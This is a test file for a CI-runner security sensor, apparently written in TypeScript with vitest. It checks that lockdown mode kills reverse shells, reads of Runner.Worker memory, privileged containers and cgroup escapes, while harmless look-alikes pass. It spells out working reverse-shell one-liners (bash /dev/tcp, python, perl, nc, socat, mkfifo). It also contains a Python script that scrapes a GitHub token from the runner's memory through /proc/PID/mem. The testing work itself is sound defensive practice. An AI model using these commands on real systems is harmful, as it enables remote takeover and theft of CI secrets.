/**
 * Lockdown end to end: real attacks in real jobs are killed in the offending
 * syscall, the whole job ends, and the offender never gets to use what it
 * read or received; the look-alikes that are not attacks stay quiet.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DetectionJobEvent } from '../../src/jobs/job-events';
import { startDnsServer, type TestDnsServer } from '../helpers/dns-server';
import { findCgroup2Mount } from '../../src/cgroup/cgroup2';
import { fixture } from '../helpers/job';
import { createTestHost, type TestHost } from '../helpers/netns';
import { runScriptJob, type ScriptJob } from '../helpers/run-job';
import { EXIT } from '../../src/jobs/exit-status';

const LOCKDOWN = `name: lockdown-test
egress-policy: audit
lockdown-mode:
  enabled: true
  detections: [Reverse-Shell, Runner-Worker-Memory-Read, Privileged-Container]
`;
const AUDIT_ONLY = LOCKDOWN.replace('enabled: true', 'enabled: false');
const SECRET = `ghs_${'s3cr3t'.repeat(4)}`;
const PYTHON = fs.existsSync('/usr/bin/python3') ? '/usr/bin/python3' : 'python3';

let host: TestHost;
let dns: TestDnsServer;
let shellLog: string;
let worker: ChildProcess;
const SHELL_PORT = 4444;

beforeAll(async () => {
  host = createTestHost(3);
  shellLog = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'ringfence-shell-')), 'received');
  fs.writeFileSync(shellLog, '');
  const listener = host.spawn(process.execPath, [path.resolve(__dirname, '../fixtures/shell_listener.js'), String(SHELL_PORT), shellLog]);
  await new Promise<void>((resolve) => listener.stdout!.once('data', () => resolve()));
  dns = await startDnsServer({});
  // The runner's worker, outside any job, holding a secret.
  worker = spawn(fixture('Runner.Worker'), [SECRET], { stdio: ['ignore', 'pipe', 'inherit'] });
  await new Promise<void>((resolve) => worker.stdout!.once('data', () => resolve()));
});

afterAll(async () => {
  worker?.kill('SIGKILL');
  await dns?.close();
  host?.destroy();
});

function job(script: string, policy = LOCKDOWN): Promise<ScriptJob> {
  return runScriptJob(script, { policy, upstream: { host: dns.host, port: dns.port }, resolvConf: `nameserver ${host.ip4}\n` });
}

let siblings = 0;
const siblingPidFile = () => path.join(os.tmpdir(), `ringfence-sibling-${process.pid}-${++siblings}`);

/**
 * The process whose pid the job wrote to `file` no longer runs: gone, or a
 * zombie waiting for init (orphans are reaped by PID 1, in its own time).
 */
function expectGone(file: string) {
  const pid = Number(fs.readFileSync(file, 'utf8'));
  expect(pid).toBeGreaterThan(0);
  let state = 'gone';
  try {
    state = /^State:\s+(\S)/m.exec(fs.readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1] ?? 'gone';
  } catch {
    /* gone */
  }
  expect(['gone', 'Z', 'X']).toContain(state);
}

const detections = (j: ScriptJob) => j.events.filter((e): e is DetectionJobEvent => e.kind === 'detection');

/** The job ended by lockdown: EXIT.LOCKDOWN (172), the detection recorded as killed, and nothing of the job left. */
function expectKilled(j: ScriptJob, detection: string) {
  expect(j.exitStatus).toBe(EXIT.LOCKDOWN);
  const found = detections(j).filter((d) => d.detection === detection);
  expect(found.length).toBeGreaterThan(0);
  expect(found[0]).toMatchObject({ action: 'killed', policy: 'lockdown-test' });
  expect(j.summary).toMatch(new RegExp(`KILLED ${detection}`));
  const completed = j.events.at(-1)!;
  expect(completed).toMatchObject({ kind: 'job', phase: 'completed' });
  expect((completed as { killedBy?: string }).killedBy).toContain(detection);
  return found[0];
}

describe('Reverse-Shell', () => {
  const target = () => `${host.ip4}/${SHELL_PORT}`;
  // "survived" is printed by the offender itself after its offending
  // syscall; the listener's log shows whether a shell ever answered it.
  const variants: [string, () => string][] = [
    ['bash >& /dev/tcp', () => `exec >& /dev/tcp/${target()} 0>&1; echo survived >/proc/self/fd/1; bash -i`],
    ['bash -i >& /dev/tcp in a child', () => `bash -i >& /dev/tcp/${target()} 0>&1`],
    ['exec redirections in a loop', () => `exec 5<>/dev/tcp/${target()}; while read line <&5; do $line 2>&5 >&5; done`],
    ['python socket + dup2', () => `${PYTHON} -c 'import socket,os,pty;s=socket.socket();s.connect(("${host.ip4}",${SHELL_PORT}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);print("survived");pty.spawn("/bin/sh")'`],
    ['perl socket + open >&', () => `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(${SHELL_PORT},inet_aton("${host.ip4}")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");print "survived\\n";exec("/bin/sh -i");'`],
    ['nc -e', () => `nc.traditional -e /bin/sh ${host.ip4} ${SHELL_PORT}`],
    ['socat exec,nofork', () => `socat TCP:${host.ip4}:${SHELL_PORT} EXEC:/bin/sh,nofork`],
    // relays: the shell's stdio is a pipe or socketpair to the process holding the socket
    ['ncat -e (socketpair relay)', () => `ncat -e /bin/sh ${host.ip4} ${SHELL_PORT}`],
    ['socat EXEC (socketpair relay)', () => `socat TCP:${host.ip4}:${SHELL_PORT} EXEC:/bin/sh`],
    ['mkfifo pipeline through nc', () => `rm -f /tmp/rf-fifo-$$; mkfifo /tmp/rf-fifo-$$; cat /tmp/rf-fifo-$$ | /bin/sh -i 2>&1 | nc.traditional ${host.ip4} ${SHELL_PORT} > /tmp/rf-fifo-$$`],
  ];

  for (const [name, script] of variants) {
    it(`${name}: killed, and the shell never answers`, async () => {
      const before = fs.readFileSync(shellLog, 'utf8');
      // a double-forked sibling that must die with the job
      const sibling = siblingPidFile();
      const j = await job(`(setsid sleep 30 & echo $! > ${sibling}); ${script()}`);
      const d = expectKilled(j, 'Reverse-Shell');
      expectGone(sibling);
      expect(d.target).toMatchObject({ ip: host.ip4, port: SHELL_PORT });
      expect(j.stdout).not.toContain('survived');
      await new Promise((resolve) => setTimeout(resolve, 200));
      expect(fs.readFileSync(shellLog, 'utf8')).toBe(before); // nothing came back
    });
  }

  it('with lockdown off: recorded as audited, nothing killed', async () => {
    const j = await job(`exec 3<>/dev/tcp/${target()}; exec 1>&3; echo hi-from-audit >&2; exit 0`, AUDIT_ONLY);
    expect(j.exitStatus).toBe(0);
    expect(j.stderr).toBe('hi-from-audit\n');
    // every dup of the socket onto stdio is one (bash restores fd 1 after the echo)
    const found = detections(j).map((d) => [d.detection, d.action]);
    expect(found.length).toBeGreaterThan(0);
    expect(new Set(found.map((f) => f.join()))).toEqual(new Set(['Reverse-Shell,audited']));
  });
});

describe('Runner-Worker-Memory-Read', () => {
  const pid = () => worker.pid!;

  it('the real attack: find Runner.Worker in /proc, read its maps, read /proc/PID/mem (via sudo)', async () => {
    const attack = `
import os, re
for p in os.listdir('/proc'):
    if not p.isdigit(): continue
    try: cmd = open(f'/proc/{p}/cmdline','rb').read()
    except OSError: continue
    if b'Runner.Worker' not in cmd: continue
    maps = open(f'/proc/{p}/maps').read().splitlines()
    mem = open(f'/proc/{p}/mem','rb', 0)
    for line in maps:
        m = re.match(r'([0-9a-f]+)-([0-9a-f]+) r', line)
        if not m: continue
        try:
            mem.seek(int(m.group(1),16)); chunk = mem.read(int(m.group(2),16)-int(m.group(1),16))
        except OSError: continue
        i = chunk.find(b'system.github.token')
        if i >= 0: print(chunk[i:i+80])
`;
    const file = path.join(os.tmpdir(), `ringfence-attack-${process.pid}.py`);
    fs.writeFileSync(file, attack);
    const sibling = siblingPidFile();
    const j = await job(`(setsid sleep 30 & echo $! > ${sibling}); sudo -n ${PYTHON} ${file}`);
    const d = expectKilled(j, 'Runner-Worker-Memory-Read');
    expectGone(sibling);
    expect(d).toMatchObject({ via: 'proc_mem_open', target: { pid: pid() } });
    expect((d.target as { exe?: string }).exe).toMatch(/Runner\.Worker$/);
    expect(j.stdout).not.toContain(SECRET);
  });

  it('process_vm_readv on the worker', async () => {
    const j = await job(`${fixture('vm_readv')} ${pid()}`);
    expect(expectKilled(j, 'Runner-Worker-Memory-Read')).toMatchObject({ via: 'process_vm', target: { pid: pid() } });
    expect(j.stdout).not.toMatch(/read/); // vm_readv prints what it read; it never got to
  });

  it('ptrace attach on the worker', async () => {
    const j = await job(`${fixture('ptrace_attach')} ${pid()}`);
    expect(expectKilled(j, 'Runner-Worker-Memory-Read')).toMatchObject({ via: 'ptrace', target: { pid: pid() } });
    expect(j.stdout).not.toMatch(/attached/);
  });

  it('with lockdown off: recorded as audited, nothing killed', async () => {
    const j = await job(`${fixture('open_mem')} /proc/${pid()}/mem`, AUDIT_ONLY);
    expect(j.exitStatus).toBe(0);
    expect(j.stdout).toBe('opened fd=3\n');
    expect(detections(j).map((d) => [d.detection, d.action])).toEqual([['Runner-Worker-Memory-Read', 'audited']]);
  });
});

describe('Runner-Worker-Memory-Read by ptrace: the protected process after the kill', () => {
  const onPath = (command: string) => (process.env.PATH ?? '').split(':').some((dir) => dir && fs.existsSync(path.join(dir, command)));
  /** A worker of the case's own: ptrace shapes change it, and EXITKILL kills it. */
  async function startWorker(): Promise<{ worker: ChildProcess; exited: Promise<NodeJS.Signals | null> }> {
    const own = spawn(fixture('Runner.Worker'), [SECRET], { stdio: ['ignore', 'pipe', 'inherit'] });
    const exited = new Promise<NodeJS.Signals | null>((resolve) => own.on('exit', (_code, signal) => resolve(signal)));
    await new Promise<void>((resolve) => own.stdout!.once('data', () => resolve()));
    return { worker: own, exited };
  }
  const stateOf = (pid: number) => {
    try {
      const stat = fs.readFileSync(`/proc/${pid}/stat`, 'utf8');
      return stat.slice(stat.lastIndexOf(')') + 2).split(' ')[0]; // field 3
    } catch {
      return 'gone';
    }
  };
  /** Alive and not stopped (T, or t: traced), every 10 ms for 300 ms after the job (and so the detection) ended. */
  async function expectRunsOn(pid: number) {
    const seen = new Set<string>();
    for (let i = 0; i < 30; i++) {
      seen.add(stateOf(pid));
      await new Promise((resolve) => setTimeout(resolve, 10));
    }
    expect([...seen].filter((state) => !['R', 'S'].includes(state))).toEqual([]);
  }

  // gdb and gcore attach with PTRACE_ATTACH; they are covered when installed (.ci does not install them).
  const shapes: { name: string; script: (pid: number) => string; after: string }[] = [
    { name: 'PTRACE_ATTACH', script: (pid) => `${fixture('ptrace_attach')} ${pid}`, after: 'resumed' },
    { name: 'PTRACE_SEIZE then PTRACE_INTERRUPT', script: (pid) => `${fixture('ptrace_seize')} ${pid} interrupt`, after: 'running' },
    {
      name: 'python3 ctypes PTRACE_ATTACH',
      script: (pid) => `${PYTHON} -c 'import ctypes,os;libc=ctypes.CDLL(None,use_errno=True);libc.ptrace(16,${pid},0,0);os.waitpid(${pid},0);print("attached")'`,
      after: 'resumed',
    },
    ...(onPath('gdb') ? [{ name: 'gdb -p', script: (pid: number) => `gdb -nx -batch -p ${pid} -ex 'info registers' && echo attached`, after: 'resumed' }] : []),
    ...(onPath('gcore') ? [{ name: 'gcore', script: (pid: number) => `gcore -o ${os.tmpdir()}/ringfence-core-${process.pid} ${pid} && echo attached`, after: 'resumed' }] : []),
  ];

  it.each(shapes)('$name: killed and reported, and the worker runs on (targetAfterKill $after)', async ({ script, after }) => {
    const { worker: own } = await startWorker();
    try {
      const j = await job(script(own.pid!));
      const d = expectKilled(j, 'Runner-Worker-Memory-Read');
      expect(d).toMatchObject({ via: 'ptrace', target: { pid: own.pid }, targetAfterKill: after });
      expect(j.stdout).not.toMatch(/attached|seized/);
      await expectRunsOn(own.pid!);
      expect(j.agentFailures).toEqual([]);
    } finally {
      own.kill('SIGKILL');
    }
  });

  it('PTRACE_SEIZE with PTRACE_O_EXITKILL: the worker dies with its tracer, by design, and the report says so', async () => {
    const { worker: own, exited } = await startWorker();
    try {
      const j = await job(`${fixture('ptrace_seize')} ${own.pid} exitkill`);
      const d = expectKilled(j, 'Runner-Worker-Memory-Read');
      expect(d).toMatchObject({ via: 'ptrace', target: { pid: own.pid }, targetAfterKill: 'killed-by-exitkill' });
      expect(await exited).toBe('SIGKILL');
      expect(j.summary).toContain(`(pid ${own.pid}) (via ptrace); the protected process was killed by the kernel with its tracer (PTRACE_O_EXITKILL)`);
      expect(j.stdout).not.toContain('seized');
    } finally {
      own.kill('SIGKILL');
    }
  });
});

describe('Privileged-Container', () => {
  it('a container with every capability in the initial user namespace is killed before it runs', async () => {
    const j = await job(`${fixture('mini_container')} --privileged /bin/echo inside`);
    const d = expectKilled(j, 'Privileged-Container');
    expect(d).toMatchObject({ via: 'exec', target: { pidnsLevel: 1 } });
    expect(j.stdout).not.toContain('inside');
  });
});

describe('Cgroup-Escape', () => {
  const selfCgroup = () => `${findCgroup2Mount()}$(sed -n 's/^0:://p' /proc/self/cgroup)`;

  it('moving out of the job cgroup is killed before the write', async () => {
    const root = findCgroup2Mount();
    const sibling = siblingPidFile();
    const j = await job(`(setsid sleep 30 & echo $! > ${sibling}); echo $$ > ${root}/cgroup.procs; echo survived`);
    expect(expectKilled(j, 'Cgroup-Escape')).toMatchObject({ via: 'cgroup_open' });
    expect(j.stdout).not.toContain('survived');
    expectGone(sibling);
  });

  it('a child cloned straight into another cgroup (clone3 CLONE_INTO_CGROUP) is killed before it is born', async () => {
    const j = await job(`${fixture('clone_into')} ${findCgroup2Mount()}; echo survived`);
    expect(expectKilled(j, 'Cgroup-Escape')).toMatchObject({ via: 'clone_into' });
    expect(j.stdout).not.toContain('child');
  });

  it('moving within the job (a child cgroup of its own) is allowed', async () => {
    const j = await job(`cg=${selfCgroup()}; mkdir $cg/inner && echo $$ > $cg/inner/cgroup.procs && echo fine`);
    expect(detections(j)).toEqual([]);
    expect(j.stdout).toBe('fine\n');
  });
});

describe('look-alikes stay quiet', () => {
  it.each([
    ['a job debugging its own child (strace)', () => `strace -f -o /dev/null /bin/true && echo fine`],
    ['ptrace attach on its own sibling', () => `sleep 5 & ${fixture('ptrace_attach')} $!; kill $!; echo fine`],
    ['reading its own /proc/self/mem', () => `${fixture('open_mem')} /proc/self/mem >/dev/null && echo fine`],
    ['pipes and unix sockets on stdio', () => `echo x | cat | ${PYTHON} -c 'import socket,os;a,b=socket.socketpair();os.dup2(a.fileno(),1);print("x")' ; echo fine`],
    ['a network client that is not a shell', () => `${PYTHON} -c 'import socket;s=socket.create_connection(("${host.ip4}",${SHELL_PORT}));print(s.recv(64)[:4])' >/dev/null && echo fine`],
    ['a container with Docker’s default capabilities', () => `${fixture('mini_container')} /bin/true && echo fine`],
    ['a rootless (user-namespaced) container', () => `unshare --user --map-root-user --pid --mount --fork /bin/true && echo fine`],
    ['a script fetched from the network piped into sh', () => `${PYTHON} -c 'import socket;s=socket.create_connection(("${host.ip4}",${SHELL_PORT}));s.recv(64);print("echo fine")' | sh`],
    ['a shell in a local pipeline', () => `echo 'echo fine' | sh | cat`],
    [
      'a shell whose output pipe is shared with a connected process (the job log of a runner)',
      () => `{ ${PYTHON} -c 'import socket,time;s=socket.create_connection(("${host.ip4}",${SHELL_PORT}));time.sleep(1)' & sleep 0.3; echo 'echo fine' | sh; wait; } | cat`,
    ],
  ])('%s', async (_name, script) => {
    const j = await job(script());
    expect(detections(j)).toEqual([]);
    expect(j.exitStatus).toBe(0);
    expect(j.stdout.trim().split('\n').at(-1)).toBe('fine');
  });
});

describe('under an event flood', () => {
  it('a detection still kills when the ring buffer is full and JS is not reading', async () => {
    const { Sensor } = await import('../../src/sensor/sensor');
    const { Cgroup } = await import('../../src/cgroup/cgroup2');
    const { JobLockdown } = await import('../../src/enforce/lockdown');
    // a tiny ring buffer, and a reader that is never started: every event is a drop
    const sensor = Sensor.open({ ringBufferBytes: 1 << 16 });
    const cgroup = Cgroup.create(`ringfence-test/${process.pid}-flood-kill`);
    sensor.track(cgroup);
    const lockdown = new JobLockdown(sensor.kernel(), cgroup.id, ['Reverse-Shell']);
    try {
      const flood = cgroup.spawn(fixture('syscall_flood'), ['ptrace', '300000'], { stdio: 'ignore' });
      await new Promise((resolve) => flood.on('exit', resolve));
      expect(sensor.stats().dropped).toBeGreaterThan(0); // the buffer is full, and stays full
      const offender = cgroup.spawn(PYTHON, ['-c', `import socket,os;s=socket.create_connection(("${host.ip4}",${SHELL_PORT}));os.dup2(s.fileno(),1);os.write(2,b"survived")`], { stdio: ['ignore', 'ignore', 'pipe'] });
      let stderr = '';
      offender.stderr!.on('data', (d) => (stderr += d));
      const signal = await new Promise((resolve) => offender.on('exit', (_code, sig) => resolve(sig)));
      expect(signal).toBe('SIGKILL');
      expect(stderr).toBe('');
      expect(lockdown.kills()).toBe(1);
    } finally {
      lockdown.remove();
      sensor.destroy();
      await cgroup.destroy();
    }
  });
});
